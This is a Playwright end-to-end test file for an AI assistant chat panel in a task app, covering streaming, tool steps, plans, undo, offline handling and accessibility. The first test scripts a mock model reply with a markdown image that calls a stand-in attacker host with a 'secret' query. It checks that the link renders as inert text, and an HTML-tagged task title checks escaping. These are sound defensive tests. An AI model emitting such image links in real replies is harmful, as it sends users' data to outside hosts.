import assert from "node:assert/strict";
import { after, test } from "node:test";
import type { Page } from "playwright-core";
import { eventually } from "../support/eventually.ts";
import { type ModelReply, type ModelRequest, startModel } from "../support/model-endpoint.ts";
import { axe } from "./support/axe.ts";
import { newUser, openDevice, quickAdd, row, visit } from "./support/browser.ts";

const model = await startModel(Number(process.env.TASKWAKE_MODEL_PORT));
after(model.close);

const composer = (page: Page) => page.getByRole("textbox", { name: /Message to the assistant|Nachricht an/ });
const lastTurn = (page: Page) => page.locator(".turn").last();
const reply = (page: Page) => lastTurn(page).locator(".turn-reply");

/** Opens the panel by its key. */
async function openPanel(page: Page): Promise<void> {
  await page.locator("#main").focus();
  await page.keyboard.press("c");
  await composer(page).waitFor();
}

async function say(page: Page, text: string): Promise<void> {
  await composer(page).fill(text);
  await composer(page).press("Enter");
  await lastTurn(page).filter({ hasText: text }).waitFor();
}

const ended = (page: Page) => page.locator(".turn[aria-busy=true]").waitFor({ state: "detached" });
const hasResults = ({ messages }: ModelRequest) => messages.at(-1)?.role === "tool";
/** Calls first, then a text. */
const callsThen =
  (calls: NonNullable<ModelReply["calls"]>, text: string) =>
  (request: ModelRequest): ModelReply =>
    hasResults(request) ? { text } : { calls };

test("a reply appears while it is written; its steps, tasks and undo are there; a reload returns to it", async () => {
  const person = await newUser();
  const { page, faults, close } = await openDevice(person);
  await openPanel(page);
  assert.deepEqual(await axe(page), [], "empty");
  let isFirst = true;
  model.script = (request) => {
    if (!hasResults(request))
      return { calls: [{ name: "create_task", arguments: { title: "Buy <b>milk</b>" } }] };
    isFirst = false;
    return {
      text: `It is on your list. ![x](https://attacker.example/?q=secret) ${"Anything else? ".repeat(40)}`,
      pause: 15,
    };
  };
  await say(page, "I need milk");
  await reply(page).filter({ hasText: "It is on" }).waitFor();
  const early = String(await reply(page).textContent()).length;
  assert.ok(!isFirst && early < 500, "it was shown before its end");
  await ended(page);
  assert.ok(
    String(await reply(page).textContent()).includes("![x](https://attacker.example/?q=secret)"),
    "as text",
  );
  assert.equal(await page.locator(".chat img").count(), 0);
  await lastTurn(page).locator(".turn-steps > summary").click();
  await lastTurn(page).getByText("Added a task").click();
  await lastTurn(page).locator("pre").first().filter({ hasText: "Buy <b>milk</b>" }).waitFor();
  assert.deepEqual(await axe(page), [], "with a reply");
  await page.reload();
  await lastTurn(page).filter({ hasText: "I need milk" }).waitFor();
  await lastTurn(page).getByRole("link", { name: "Buy <b>milk</b>" }).click();
  await page.locator(".detail").waitFor();
  await page.getByRole("button", { name: "Close" }).first().click();
  await lastTurn(page).getByRole("button", { name: "Undo this" }).click();
  await lastTurn(page).getByText("Undone.").waitFor();
  await eventually(async () => (await person.call("GET", "/v1/tasks")).body.results.length === 0);
  assert.deepEqual(faults, []);
  await close();
});

test("a plan stands in the conversation and is confirmed there", async () => {
  const person = await newUser();
  const task = await person.create({ title: "Old idea" });
  const { page, close } = await openDevice(person);
  await openPanel(page);
  model.script = callsThen(
    [{ name: "delete_task", arguments: { task_id: task.id, version: task.version } }],
    "Please confirm it.",
  );
  await say(page, "Delete the old idea");
  await page.locator(".chat .plan").filter({ hasText: "Old idea" }).waitFor();
  await ended(page);
  assert.equal((await person.call("GET", `/v1/tasks/${task.id}`)).body.deleted_at, null);
  await page.locator(".chat .plan").getByRole("button", { name: "Confirm this change" }).click();
  await page.locator(".chat .plan-status").filter({ hasText: "Confirmed and done." }).waitFor();
  assert.ok((await person.call("GET", `/v1/tasks/${task.id}`)).body.deleted_at);
  await close();
});

test("a reply is stopped; what went wrong is said plainly, and tried again", async () => {
  const { page, close } = await openDevice(await newUser());
  await openPanel(page);
  model.script = () => ({ text: "Word ".repeat(500), pause: 20 });
  await say(page, "Talk");
  await reply(page).filter({ hasText: "Word" }).waitFor();
  await page.getByRole("button", { name: "Stop", exact: true }).click();
  await lastTurn(page).getByText("Stopped. What was done stays.").waitFor();
  model.script = () => ({ status: 401, body: JSON.stringify({ error: { message: "no" } }) });
  await say(page, "Hello");
  await lastTurn(page).getByText("refuses this server's key").waitFor();
  model.script = () => ({ text: "Hello again." });
  await lastTurn(page).getByRole("button", { name: "Try again" }).click();
  await reply(page).filter({ hasText: "Hello again." }).waitFor();
  await close();
});

test("without a connection it says so, and keeps what was written, also over a reload", async () => {
  const { page, close } = await openDevice(await newUser());
  await openPanel(page);
  await page.context().setOffline(true);
  await composer(page).fill("Call Anna tomorrow");
  await composer(page).press("Enter");
  await page.locator(".chat-problem").filter({ hasText: "You are offline" }).waitFor();
  assert.equal(await composer(page).inputValue(), "Call Anna tomorrow");
  await page.context().setOffline(false);
  await page.reload();
  await composer(page).waitFor();
  assert.equal(await composer(page).inputValue(), "Call Anna tomorrow");
  model.script = () => ({ text: "Done." });
  await composer(page).press("Enter");
  await reply(page).filter({ hasText: "Done." }).waitFor();
  assert.equal(await composer(page).inputValue(), "");
  await close();
});

test("conversations are returned to and deleted; on a phone the panel fills the screen, in German", async () => {
  const { page, faults, close } = await openDevice(await newUser(), {
    locale: "de-DE",
    viewport: { width: 360, height: 740 },
  });
  await page.getByRole("button", { name: "Mehr" }).click();
  await page.getByRole("button", { name: "Assistent" }).click();
  await composer(page).waitFor();
  const box = await page.locator(".chat").boundingBox();
  assert.deepEqual([box?.x, box?.width], [0, 360]);
  model.script = () => ({ text: "Gern." });
  await say(page, "Erstes Gespräch");
  await reply(page).filter({ hasText: "Gern." }).waitFor();
  await page.getByRole("button", { name: "Neues Gespräch" }).click();
  await page.getByText("Was kann ich für dich tun?").waitFor();
  await say(page, "Zweites Gespräch");
  await reply(page).filter({ hasText: "Gern." }).waitFor();
  assert.deepEqual(await axe(page), []);
  await page.getByRole("button", { name: "Frühere Gespräche" }).click();
  await page.locator(".chat-conversation", { hasText: "Erstes Gespräch" }).click();
  await lastTurn(page).filter({ hasText: "Erstes Gespräch" }).waitFor();
  await page.getByRole("button", { name: "Frühere Gespräche" }).click();
  await page.getByRole("button", { name: "Das Gespräch „Erstes Gespräch“ löschen" }).click();
  await page.getByRole("button", { name: "Löschen", exact: true }).click();
  await page.locator(".chat-conversation", { hasText: "Erstes Gespräch" }).waitFor({ state: "detached" });
  assert.equal(await page.locator(".chat-conversation").count(), 1);
  await page.keyboard.press("Escape");
  await page.keyboard.press("Escape");
  await page.locator(".chat").waitFor({ state: "detached" });
  assert.deepEqual(faults, []);
  await close();
});

test("two tabs show the same reply", async () => {
  const { page, close } = await openDevice(await newUser());
  await openPanel(page);
  model.script = () => ({ text: "Word ".repeat(60), pause: 20 });
  await say(page, "Talk");
  const address = await page.evaluate(() => ({ ...sessionStorage }));
  const other = await page.context().newPage();
  await other.addInitScript((kept) => {
    for (const [key, value] of Object.entries(kept)) sessionStorage.setItem(key, value);
  }, address);
  await other.goto("/");
  await reply(other).filter({ hasText: "Word" }).waitFor();
  await Promise.all([ended(page), ended(other)]);
  assert.equal(await reply(other).textContent(), await reply(page).textContent());
  assert.equal(String(await reply(page).textContent()).match(/Word/g)?.length, 60);
  await close();
});

test("the panel is used by keys alone, and the focus returns to where it was", async () => {
  const person = await newUser();
  const task = await person.create({ title: "Old idea" });
  const { page, close } = await openDevice(person);
  await visit(page, "#/inbox");
  await row(page, "Old idea").locator(".row-open").waitFor();
  const focused = () => page.evaluate(() => document.activeElement?.textContent?.trim() ?? "");
  /** Tabs until something with these words has the focus. */
  const reach = async (words: string) => {
    for (let i = 0; i < 25; i++) {
      if ((await focused()).startsWith(words)) return;
      await page.keyboard.press("Tab");
    }
    assert.fail(`${words} is not reached by Tab; the focus is on ${await focused()}`);
  };
  await page.keyboard.press("j");
  assert.equal(await focused(), "Old idea");
  await page.keyboard.press("c");
  await composer(page).waitFor();
  const calls = [
    { name: "create_task", arguments: { title: "New idea" } },
    { name: "delete_task", arguments: { task_id: task.id, version: task.version } },
  ];
  model.script = callsThen(calls, "Please confirm it.");
  await page.keyboard.type("Replace the idea");
  await page.keyboard.press("Enter");
  await page.locator(".chat .plan").waitFor();
  await ended(page);
  assert.ok(await composer(page).evaluate((field) => field === document.activeElement));
  // From the top of the panel: the steps open, then the plan, then the undo.
  await page.locator(".chat-log").focus();
  await reach("2 steps");
  await page.keyboard.press("Enter");
  await reach("Added a task");
  await page.keyboard.press("Enter");
  await lastTurn(page).locator("pre").first().filter({ hasText: "New idea" }).waitFor();
  await reach("Confirm this change");
  await page.keyboard.press("Enter");
  await page.locator(".chat .plan-status").filter({ hasText: "Confirmed and done." }).waitFor();
  assert.ok((await person.call("GET", `/v1/tasks/${task.id}`)).body.deleted_at);
  await reach("Undo this");
  await page.keyboard.press("Enter");
  await lastTurn(page).getByText("Undone.").waitFor();
  await row(page, "New idea").waitFor({ state: "detached" });
  await page.keyboard.press("Escape");
  await page.locator(".chat").waitFor({ state: "detached" });
  // The row that it was opened from is gone; opened again from the list, it leads back there.
  await person.create({ title: "Third idea" });
  await row(page, "Third idea").locator(".row-open").focus();
  await page.keyboard.press("c");
  await composer(page).waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await focused(), "Third idea");
  await close();
});

test("a task has one link however many steps name it; a message of the client leaves the field free", async () => {
  const person = await newUser();
  const { id } = await person.create({ title: "Buy milk" });
  for (const viewport of [
    { width: 1280, height: 860 },
    { width: 390, height: 780 },
  ]) {
    const { page, close } = await openDevice(person, { viewport });
    await quickAdd(page, "Something else");
    await openPanel(page);
    const toast = page.locator(".toast");
    const [message, field] = [await toast.boundingBox(), await page.locator(".chat-composer").boundingBox()];
    assert.ok(message && field);
    const apart = message.x + message.width <= field.x || message.y + message.height <= field.y;
    assert.ok(apart, JSON.stringify({ message, field }));
    model.script = callsThen(
      [
        { name: "get_task", arguments: { task_id: id } },
        { name: "search_tasks", arguments: { query: "milk" } },
      ],
      "There it is.",
    );
    await say(page, "Where is the milk?");
    await lastTurn(page).getByText("There it is.").waitFor();
    await ended(page);
    // The results of the steps are read once the turn has ended.
    await lastTurn(page).locator(".turn-tasks a").first().waitFor();
    assert.equal(await lastTurn(page).locator(".turn-tasks a").count(), 1);
    await close();
  }
});
